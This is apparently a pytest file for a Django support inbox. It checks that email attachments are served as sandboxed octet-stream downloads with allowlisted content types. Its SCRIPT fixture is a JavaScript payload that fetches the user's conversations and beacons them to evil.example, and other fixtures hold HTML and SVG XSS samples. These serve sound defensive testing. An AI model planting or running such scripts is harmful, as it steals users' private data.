"""Files are served with a type from our allowlist, never the sender's: an email attachment claiming
`application/javascript` (or `text/html`) must not run when a page of our origin includes it."""

from __future__ import annotations

import base64

import pytest

from inbox.intake.mailbox import email_store
from inbox.models import Message

pytestmark = pytest.mark.django_db

SCRIPT = b"fetch('/api/v1/conversations/').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example', t))"


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


def mail_with(*parts: tuple[str, str, bytes], message_id: str) -> Message:
    """A customer's email with attachments given as (content type, file name, bytes)."""
    body = "".join(
        f'--b\r\nContent-Type: {ctype}\r\nContent-Disposition: attachment; filename="{name}"\r\n'
        f"Content-Transfer-Encoding: base64\r\n\r\n{base64.b64encode(data).decode()}\r\n"
        for ctype, name, data in parts
    )
    raw = (
        "From: Jane Doe <jane.doe@example.com>\r\nTo: support@shop.example\r\nSubject: My order\r\n"
        f"Message-ID: {message_id}\r\nMIME-Version: 1.0\r\n"
        'Content-Type: multipart/mixed; boundary="b"\r\n\r\n'
        "--b\r\nContent-Type: text/plain\r\n\r\nSee attached.\r\n" + body + "--b--\r\n"
    ).encode()
    email_store(raw=raw, esp="test", fallback_key=message_id)
    return Message.objects.get(email_message_id=message_id)


def test_a_javascript_attachment_is_served_as_an_octet_stream_download_in_a_sandbox(email_inbox, commit, bob, client):
    message = mail_with(("application/javascript", "invoice.js", SCRIPT), message_id="<js@mail.example.com>")
    client.force_login(bob)
    response = client.get(f"/attachments/{message.pk}/0/")
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == SCRIPT  # the agent still gets the file
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith("attachment")
    assert "sandbox" in response["Content-Security-Policy"]
    assert response["X-Content-Type-Options"] == "nosniff"


def test_the_cleaned_type_is_what_intake_stores(email_inbox, commit):
    message = mail_with(
        ("application/javascript", "a.js", SCRIPT),
        ("text/html", "b.html", b"<script>alert(1)</script>"),
        ("image/svg+xml", "c.svg", b"<svg onload='alert(1)'/>"),
        ("application/pdf", "d.pdf", b"%PDF-1.4\n%%EOF\n"),
        message_id="<types@mail.example.com>",
    )
    assert [a["content_type"] for a in message.attachments] == [
        "application/octet-stream",
        "application/octet-stream",
        "application/octet-stream",
        "application/pdf",
    ]


def test_a_row_stored_before_the_cleaning_is_still_served_as_an_octet_stream(email_inbox, commit, bob, client):
    message = mail_with(("image/png", "x.png", b"\x89PNG\r\n"), message_id="<old@mail.example.com>")
    attachment = message.attachments[0]
    Message.objects.filter(pk=message.pk).update(attachments=[{**attachment, "content_type": "text/html; charset=utf-8"}])
    client.force_login(bob)
    response = client.get(f"/attachments/{message.pk}/0/")
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith("attachment")
    assert "sandbox" in response["Content-Security-Policy"]


@pytest.mark.parametrize(
    ("claimed", "served"),
    [
        ("image/png", "image/png"),
        ("IMAGE/JPEG; name=x.jpg", "image/jpeg"),
        ("audio/ogg", "audio/ogg"),
        ("application/pdf", "application/pdf"),
        ("text/plain", "text/plain"),
        ("application/javascript", "application/octet-stream"),
        ("text/javascript", "application/octet-stream"),
        ("text/html", "application/octet-stream"),
        ("application/xhtml+xml", "application/octet-stream"),
        ("image/svg+xml", "application/octet-stream"),
        ("image/x-icon", "application/octet-stream"),
        ("", "application/octet-stream"),
    ],
)
def test_the_served_type_comes_from_the_allowlist(claimed, served):
    from inbox.conversations.attachments import served_type

    assert served_type(claimed) == served
